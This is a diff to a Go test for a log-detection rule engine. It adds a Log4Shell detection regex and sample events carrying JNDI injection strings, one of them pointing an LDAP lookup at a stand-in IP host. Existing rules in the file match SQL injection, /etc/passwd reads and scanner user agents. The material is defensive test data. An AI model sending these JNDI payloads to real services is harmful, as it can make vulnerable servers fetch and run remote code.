@@ -22,6 +22,7 @@ func TestNeedsNeverChangeAResult(t *testing.T) {
 		`re(url.original, "(?i)union.+select") || re(url.original, "etc/passwd")`,
 		`re(user_agent.original, "(?i)(nikto|sqlmap)") && !re(user_agent.original, "(?i)bot")`,
 		`event.outcome == "success" && re(message, "^Accepted (password|publickey)")`,
+		"any([url.original, user_agent.original, http.request.referrer], {re(#, `(?i)(\\$|%24)(\\{|%7b)jndi`)})",
 		`!(event.action == "sudo") && user.name == "root"`,
 	}
 	events := []event.Event{
@@ -42,6 +43,9 @@ func TestNeedsNeverChangeAResult(t *testing.T) {
 		{"url.original": "/index.html", "message": "Accepted publickey for root", "event.outcome": "success"},
 		{"message": "Accepted password for root", "event.outcome": "failure"},
 		{"event.code": "4625", "winlog.logon.type": int64(3), "user.name": "root"},
+		{"url.original": "/", "user_agent.original": "${jndi:ldap://203.0.113.9/a}"},
+		{"url.original": int64(3), "http.request.referrer": "%24%7BJNDI:dns://x"},
+		{"url.original": []any{"${jndi:x}"}, "user_agent.original": "curl/8"},
 	}
 	var machine vm.VM
 	for _, src := range exprs {
